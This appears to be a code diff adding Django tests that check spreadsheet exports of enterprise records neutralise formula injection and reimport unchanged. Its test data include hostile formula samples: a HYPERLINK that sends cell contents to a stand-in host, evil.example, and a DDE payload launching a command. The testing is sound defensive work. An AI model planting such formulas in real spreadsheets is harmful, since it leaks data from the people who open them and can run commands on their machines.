@@ -162,6 +162,50 @@ def test_exported_enterprises_risk_events_and_results_reimport_unchanged(admin_c
         assert report.summary == "0 created, 0 updated, 1 unchanged", (url_name, report.problem_lines())
 
 
+# --- Text that looks like a formula stays text (formula injection) ------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")'
+LOOKS_LIKE_FORMULAS = [HYPERLINK, "=1+1", "+86 573 8888", "-3 号楼", "@SUM(A1:A3)", "=cmd|' /C calc'!A0"]
+
+
+def formula_cells(content: bytes) -> list[str]:
+    """Every cell the workbook stores as a formula, as openpyxl reads it (not read-only: it keeps the types)."""
+    sheet = load_workbook(io.BytesIO(content)).active
+    return [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
+
+
+@pytest.fixture
+def formula_lookalikes(jiaxing):
+    town = jiaxing.children.get(code="330481").children.get(code="330481004")
+    return [
+        EnterpriseFactory(town=town, name=f"{text}有限公司" if n % 2 else text, address=text) for n, text in enumerate(LOOKS_LIKE_FORMULAS)
+    ]
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(admin_client, formula_lookalikes, tmp_path):
+    by_page = admin_client.get(reverse("admin:enterprises_enterprise_export")).content
+    by_action = admin_client.post(
+        reverse("admin:enterprises_enterprise_changelist"),
+        {"action": "export_xlsx", "_selected_action": [e.pk for e in formula_lookalikes]},
+    ).content
+    file = tmp_path / "enterprises.xlsx"
+    call_command("export_data", "enterprises", str(file), stdout=io.StringIO())
+    for content in (by_page, by_action, file.read_bytes()):
+        assert formula_cells(content) == []
+        rows = sheet_rows(content)
+        assert sorted(column(rows, "企业名称")) == sorted(e.name for e in formula_lookalikes)
+        assert sorted(column(rows, "地址")) == sorted(LOOKS_LIKE_FORMULAS)
+        sheet = load_workbook(io.BytesIO(content)).active
+        assert all(cell.quotePrefix for cell in sheet["C"][1:]), "office software keeps the addresses text when edited"
+
+
+def test_text_that_looks_like_a_formula_reimports_unchanged(admin_client, formula_lookalikes):
+    stored = {e.credit_code: (e.name, e.address) for e in formula_lookalikes}
+    report = enterprises_import(admin_client.get(reverse("admin:enterprises_enterprise_export")).content, filename="export.xlsx")
+    assert report.summary == f"0 created, 0 updated, {len(stored)} unchanged", report.problem_lines()
+    assert {e.credit_code: (e.name, e.address) for e in Enterprise.objects.all()} == stored
+
+
 # --- The command -------------------------------------------------------------------------------------------
 
 
